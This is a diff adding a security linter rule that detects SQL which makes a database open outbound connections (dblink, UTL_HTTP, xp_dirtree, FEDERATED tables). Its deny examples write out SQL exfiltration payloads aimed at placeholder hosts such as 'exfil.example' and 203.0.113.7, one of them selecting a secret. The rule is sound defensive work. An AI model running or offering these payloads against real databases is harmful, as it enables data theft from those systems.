@@ -1,0 +1,50 @@
+/** SQL-AST-013: SQL that makes the database open network connections (dblink, UTL_HTTP, xp_dirtree, FEDERATED). */
+import { reachingFunctions } from '../../knowledge/sql.js';
+import { defineRule } from '../define-rule.js';
+
+export default defineRule({
+  id: 'SQL-AST-013',
+  invariant: 'NO_SQL_EXFILTRATION',
+  summary:
+    'dblink/dblink_exec, UTL_HTTP/UTL_INADDR/UTL_TCP, HTTPURITYPE, xp_dirtree/xp_fileexist (UNC), url(), FEDERATED tables.',
+  remediationHint:
+    'Do not make the database connect to other hosts. Query each database directly through the application with its own credentials, and move data through the workspace.',
+  *check(facts) {
+    for (const s of facts.of('sql')) {
+      if (s.connectsTo !== undefined) {
+        yield {
+          span: s.span,
+          reason: 'a FEDERATED table makes the database connect to a remote server',
+          suggestedAlternative: null,
+        };
+        continue;
+      }
+      const f = reachingFunctions(s.functions, s.qualifiedFunctions ?? []).find((x) => x.reach === 'network');
+      if (f)
+        yield {
+          span: s.span,
+          reason: `${f.name} makes the database open a network connection`,
+          suggestedAlternative: null,
+        };
+    }
+  },
+  examples: {
+    deny: [
+      {
+        input: "select * from dblink('host=203.0.113.7 user=x', 'select secret from t') as t(a text)",
+        runtime: 'sql',
+      },
+      { input: "SELECT UTL_HTTP.REQUEST('http://a1b2.exfil.example') FROM DUAL", runtime: 'sql' },
+      { input: 'select utl_inaddr.get_host_address from DUAL', runtime: 'sql' },
+      { input: "EXEC master..xp_dirtree '\\\\203.0.113.7\\share'", runtime: 'sql' },
+      {
+        input: "CREATE TABLE f (id INT) ENGINE=FEDERATED CONNECTION='mysql://u:p@203.0.113.7:3306/db/t'",
+        runtime: 'sql',
+      },
+    ],
+    allow: [
+      { input: 'SELECT url FROM links WHERE id = 3', runtime: 'sql', why: 'a column named url' },
+      { input: 'CREATE EXTENSION IF NOT EXISTS pgcrypto', runtime: 'sql', why: 'a local extension' },
+    ],
+  },
+});
